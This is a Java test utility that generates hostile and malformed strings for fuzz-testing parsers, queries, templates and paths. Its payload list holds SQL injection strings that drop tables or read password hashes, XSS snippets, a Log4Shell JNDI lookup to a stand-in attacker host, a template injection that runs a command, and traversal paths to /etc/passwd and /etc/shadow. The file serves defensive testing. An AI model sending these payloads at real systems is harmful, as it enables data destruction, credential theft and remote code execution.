package io.percept.testing;

import java.util.List;
import java.util.SplittableRandom;

/**
 * Hostile text for fuzz tests: payloads aimed at SQL, HTML, templates, paths, parsers and
 * encodings, and random mutations of valid input (characters and tokens inserted, dropped,
 * repeated or swapped), so a surface sees both the known attacks and the malformed near-misses.
 * Seeded: a failing case is found again from the seed its test prints.
 */
public final class HostileInput {

    /** Known attacks and awkward values, each as one string. */
    public static final List<String> PAYLOADS = List.of(
            "' OR '1'='1", "'; DROP TABLE event_log; --", "\"; DELETE FROM profiles; --", "1; SELECT pg_sleep(5)", "1) OR (1=1",
            "' UNION SELECT password_hash FROM access_users --", "%' OR 1=1 --", "\\'; COPY events TO '/tmp/x'; --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=alert(1)>",
            "${jndi:ldap://evil.example/a}", "${7*7}", "{{7*7}}", "#{7*7}", "*{T(java.lang.Runtime).getRuntime().exec('id')}",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd",
            "\u0000", "a\u0000b", "\r\nSet-Cookie: x=1", "\u202Egnp.exe", "\uD800", "\uDFFF", "😀👍🏽", "𝕏", "零一二三四五六七八九",
            "%s%s%s%n", "%x%x%x", "\\", "\"", "'", "`", "$", "{", "}", "[", "]", "(", ")", ",", ";", ":", "=", "==", "!=", ">=", "<",
            "-1", "0", "-0", "1e309", "-1e309", "NaN", "Infinity", "9223372036854775808", "-9223372036854775809", "0x7fffffff",
            "true", "false", "null", "undefined", "[]", "{}", "{\"a\":", "[[[[[[[[[[", "]]]]]]]]]]", "\"\\u0000\"",
            "", " ", "\t", "\n", "   x   ");

    private final SplittableRandom random;
    private final long seed;

    public HostileInput(long seed) {
        this.random = new SplittableRandom(seed);
        this.seed = seed;
    }

    /** Seeded from {@code -Dpercept.fuzz.seed=N} to repeat a run, else from the clock. */
    public static HostileInput seeded() {
        return new HostileInput(Long.getLong("percept.fuzz.seed", System.nanoTime()));
    }

    /** The seed: print it with every failure. */
    public long seed() {
        return seed;
    }

    /** {@code text} quoted for a failure message, cut to 300 characters. */
    public static String shorten(String text) {
        return text.length() <= 300 ? "'" + text + "'" : "'" + text.substring(0, 300) + "…' (" + text.length() + " chars)";
    }

    /** A payload, a long or deeply nested string, or a mutation of {@code valid}. */
    public String next(String valid) {
        int kind = random.nextInt(40);
        if (kind < 12) {
            return PAYLOADS.get(random.nextInt(PAYLOADS.size()));
        }
        if (kind == 12) {
            return huge();
        }
        if (kind < 20 && !valid.isEmpty()) {
            String payload = PAYLOADS.get(random.nextInt(PAYLOADS.size()));
            int at = random.nextInt(valid.length() + 1);
            return valid.substring(0, at) + payload + valid.substring(at);
        }
        return mutate(valid, 1 + random.nextInt(4));
    }

    /** A very long or very deeply nested string. */
    public String huge() {
        return switch (random.nextInt(4)) {
            case 0 -> "x".repeat(10_000 + random.nextInt(100_000));
            case 1 -> "(".repeat(1_000 + random.nextInt(20_000));
            case 2 -> "[".repeat(1_000 + random.nextInt(10_000)) + "]".repeat(1_000);
            default -> "a and ".repeat(500 + random.nextInt(5_000)) + "b";
        };
    }

    /** {@code valid} with {@code edits} random character edits: insert, delete, replace, repeat a span, swap two. */
    public String mutate(String valid, int edits) {
        StringBuilder text = new StringBuilder(valid);
        for (int e = 0; e < edits; e++) {
            int length = text.length();
            int at = length == 0 ? 0 : random.nextInt(length);
            switch (random.nextInt(5)) {
                case 0 -> text.insert(at, character());
                case 1 -> {
                    if (length > 0) {
                        text.deleteCharAt(at);
                    }
                }
                case 2 -> {
                    if (length > 0) {
                        text.setCharAt(at, character());
                    }
                }
                case 3 -> {
                    int end = Math.min(length, at + 1 + random.nextInt(8));
                    text.insert(at, text.substring(at, end).repeat(1 + random.nextInt(3)));
                }
                default -> {
                    if (length > 1) {
                        int other = random.nextInt(length);
                        char c = text.charAt(at);
                        text.setCharAt(at, text.charAt(other));
                        text.setCharAt(other, c);
                    }
                }
            }
        }
        return text.toString();
    }

    private char character() {
        String interesting = "()[]{}\"'`\\,.;:=<>!&|+-*/%$#@~^ \t\n\r\u0000\u00e9\u4e2d\uD83D";
        return random.nextInt(3) == 0 ? (char) random.nextInt(0x10000) : interesting.charAt(random.nextInt(interesting.length()));
    }

    /** A random int in [0, bound). */
    public int nextInt(int bound) {
        return random.nextInt(bound);
    }
}
